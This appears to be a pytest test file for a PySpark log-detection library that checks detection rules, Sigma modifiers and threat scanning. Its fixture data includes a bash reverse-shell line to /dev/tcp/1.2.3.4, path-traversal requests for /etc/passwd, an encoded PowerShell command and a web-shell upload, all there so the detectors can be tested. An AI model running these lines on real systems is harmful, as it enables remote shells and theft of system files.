import pytest
from pyspark.sql import functions as F

from logweave.functions import maps
from logweave.operators import roles, rules
from logweave.plans.remote_filter import compile_remote
from logweave.plans import sigma

SCHEMA = "id long, ts long, source string, code string, level string, message string, raw string, fields map<string,string>"


def events(spark, rows):
    return spark.createDataFrame([(k, *r) for k, r in enumerate(rows)], SCHEMA)


def test_roles(spark):
    got = roles.with_roles(events(spark, [
        (1, "s", "4625", None, "An account failed to log on", None, {"TargetUserName": "ana", "IpAddress": "8.8.8.8"}), (2, "s", None, None, "Accepted password for bob from 10.0.0.7 port 22", None, None),
        (3, "s", None, None, None, None, {"@user": "literal", "user": "other", "user.name": " "}), (4, "s", None, None, "GET /x", None, {"status": "404", "agent": "curl/8.1"}),
    ])).select("id", "roles.*").orderBy("id").collect()
    assert (got[0]["user"], got[0]["action"], got[0]["outcome"], got[0]["src_scope"]) == ("ana", "logon", "failure", "público")
    assert (got[1]["user"], got[1]["src_ip"], got[1]["action"], got[1]["outcome"]) == ("bob", "10.0.0.7", "logon", "success")
    assert got[2]["user"] == "literal" and got[3]["outcome"] == "failure" and got[3]["tool"] == "curl" and got[3]["action"] == "http_request"


def test_rules(spark):
    rows = [(1000 + k, "h", "4625", None, "failed", None, {"user": f"u{k}", "src_ip": "9.9.9.9", "host": "h"}) for k in range(12)]
    rows += [(2000, "h", "4624", None, "ok", None, {"user": "u1", "src_ip": "9.9.9.9", "host": "h"}), (3000, "w", None, None, "bash -i >& /dev/tcp/1.2.3.4/99 0>&1", None, {"host": "w"}), (4000, "w", None, None, "x", None, {"url": "/a?q=../../etc/passwd", "status": "200", "host": "w"})]
    rows += [(1000 + k, "h", "4625", None, "failed", None, {"user": "same", "src_ip": f"8.8.8.{k}", "host": "h"}) for k in range(5)] + [(1010, "h", "4624", None, "ok", None, {"user": "same", "src_ip": "1.1.1.1", "host": "h"})]
    rows += [(5000, "w", None, None, "POST", None, {"url": "POST /uploads/a.php", "status": "200", "src_ip": "7.7.7.7", "host": "w"}), (6000, "w", None, None, "GET", None, {"url": "GET /uploads/a.php", "status": "200", "src_ip": "7.7.7.7", "host": "w"})]
    df = rules.flat(events(spark, rows))
    found = rules.run_all(df)
    names = {r["rule"] for r in found.collect()}
    assert names == {"T1110-spraying", "T1059-shell-handed-out", "T1505-script-sent", "T1190-answered-probe", "T1110-guessing", "T1110-guessed"}
    assert {r["rule"] for r in rules.run_all(df, suppressed=[("T1110-spraying", "9.9.9.9"), ("T1059-shell-handed-out", "*")]).collect()} == names - {"T1110-spraying", "T1059-shell-handed-out"}
    assert {r["label"] for r in rules.evidence(found).where("rule = 'T1059-shell-handed-out'").collect()} == {"strong"}
    assert rules.chain(found, "T1505-script-sent", "T1505-script-sent", 1000).count() == 1
    t = {r["tactic"]: r["severity"] for r in rules.tactics(found).collect()}
    assert t["credential-access"] == "high" and t["execution"] == "critical"
    assert sum(r["n"] for r in rules.themes(found, 3).collect()) == found.count() and rules.themes(found, 3).select("start").distinct().count() <= 3
    with pytest.raises(ValueError):
        rules.run(df, {"id": "x", "kind": "odd"})


def test_rules_given_as_data(spark):
    text = '{"rules": [{"id": "x-any", "kind": "single", "any": {"list": [["kind", "equals", "A"], ["deep.v", "regex", "^9"]]}}, {"id": "x-gone", "kind": "absence", "where": "code:start", "expected": "code:end", "by": ["source"], "window": "10s"}]}'
    df = events(spark, [(1000, "s", "start", None, None, None, {"list": '[{"kind": "a", "deep": {"v": "95"}}, {"kind": "b"}]'}), (2000, "s", "x", None, None, None, {"list": '[{"kind": "a"}, {"kind": "b", "deep": {"v": "9"}}]'}),
                        (3000, "t", "start", None, None, None, {"list": '{"kind": "A", "deep": {"v": 9}}'}), (9000, "t", "end", None, None, None, {"list": "no json"}), (60_000, "u", "x", None, None, None, None)])
    got = {(r["rule"], r["entity"]) for r in rules.run_all(df, rules.load_rules(text)).collect()}
    assert got == {("x-any", "s"), ("x-any", "t"), ("x-gone", "s")}
    with pytest.raises(ValueError):
        rules.load_rules('[{"kind": "single"}]')


def test_threat_texts(spark):
    assert rules.load_threats('[{"id": "a", "pattern": "b"}]') == (("a", "other", "medium", "b"),)
    df = spark.createDataFrame([(1, "GET /%2e%2e%2f%2e%2e%2fetc/passwd"), (2, "p^ower''shell -enc AAAAAAAAAAAAAAAAAAAAAAAA"), (3, "hello"), (4, None)], "id int, t string")
    assert {(r["id"], r["threat"]) for r in rules.threat_scan(df, F.col("t")).collect()} == {(1, "traversal"), (2, "powershell-encoded")}


def test_reconstruct_and_versions(spark):
    df = events(spark, [(1, "a", None, None, None, "r0", {"serial": "7", "x": "1"}), (2, "a", None, None, None, "r1", {"serial": "7", "x": "2", "y": "3"}), (3, "a", None, None, None, "r2", {})])
    got = roles.reconstruct(df.withColumn("serial", F.try_element_at("fields", F.lit("serial"))), "serial").collect()
    assert len(got) == 1 and got[0]["raw"] == "r0\nr1" and got[0]["fields"] == {"serial": "7", "x": "1", "y": "3"}
    v = spark.createDataFrame([("1.2.3",), ("v10.4-rc1",), ("2024-01-02",)], "t string")
    assert [r[0] for r in v.select(roles.looks_like_version(F.col("t"))).collect()] == [True, True, False]


def test_maps(spark):
    df = spark.createDataFrame([("0x1F", " SIM ", "2024-01-02 03:04:05", "a--b", None)], "h string, b string, d string, s string, n string")
    one = lambda c: df.select(c).first()[0]
    assert one(maps.value_step(F.col("h"), "hex_to_int")) == "31" and one(maps.typed(F.col("b"), "boolean")) == "true" and one(maps.typed(F.col("d"), "datetime")).startswith("2024-01-02T03:04:05")
    assert one(maps.value_step(F.col("s"), "replace:--:+")) == "a+b" and one(maps.value_step(F.col("s"), "strip_suffix:-b")) == "a-" and one(maps.typed(F.col("s"), "integer")) is None
    got = one(maps.spans(F.col("s"), "([ab])(?=-|$)"))
    assert [(x["start"], x["end"], x["text"], x["groups"]) for x in got] == [(0, 1, "a", ["a"]), (3, 4, "b", ["b"])] and one(maps.spans(F.col("n"), "x")) is None
    assert [(x["start"], x["end"], x["start16"], x["end16"]) for x in one(maps.spans(F.lit("🔧x🔧"), "x🔧"))] == [(1, 3, 2, 5)]
    with pytest.raises(ValueError):
        maps.typed(F.col("s"), "odd")


def test_sigma_modifiers(spark):
    df = spark.createDataFrame([(1, r"C:\Windows\cmd.exe /c", "aGVsbG8gd29ybGQ=", "10.1.2.3", "x"), (2, "other -enc", None, "8.8.8.8", "other -enc")], "id int, cmd string, b string, ip string, c2 string")
    hit = lambda sel, cond="s": [r["id"] for r in df.where(sigma.condition(df, {"s": sel, "condition": cond})).select("id").collect()]
    assert hit({"cmd|contains": "CMD.EXE"}) == [1] and hit({"cmd|contains|cased": "CMD.EXE"}) == [] and hit({"cmd|endswith": "/c"}) == [1] and hit({"cmd": "*cmd.exe*"}) == [1]
    assert hit({"b|base64offset|contains": "world"}) == [1] and hit({"ip|cidr": "10.0.0.0/8"}) == [1] and hit({"b": None}) == [2] and hit({"cmd|fieldref": "c2"}) == [2] and hit({"b|exists": True}) == [1]
    assert hit({"cmd|windash|contains": "/enc"}) == [2] and hit({"cmd|contains|all": ["windows", "exe"]}) == [1] and hit({"cmd|re": "cmd\\.exe"}) == [1] and hit({"cmd|contains": "cmd"}, "not s") == [2] and hit(["windows", "nothing"]) == [1]
    assert hit({"ip|contains": "."}, "1 of them and all of s*") == [1, 2]


def test_remote(spark):
    from logweave.sources.remote import read_search

    q = compile_remote("level:erro AND (k:1..5 OR user:a*) NOT message:x", 10, 20)
    assert q["bool"]["filter"][1] == {"range": {"@timestamp": {"gte": 10, "lt": 20, "format": "epoch_millis"}}}
    inner = q["bool"]["filter"][0]["bool"]["filter"]
    assert inner[0] == {"term": {"level": "Erro"}} and inner[1]["bool"]["should"][0] == {"range": {"k": {"gte": 1, "lte": 5}}} and inner[2] == {"bool": {"must_not": [{"match_phrase": {"message": "x"}}]}}
    assert compile_remote("") == {"match_all": {}}
    for slices in (1, 3):
        got = read_search(spark, "tests.fake_server:ask", "message:m", slices=slices, size=4).collect()
        assert sorted(r["event_ref"] for r in got) == [f"d{k:02d}" for k in range(25)]
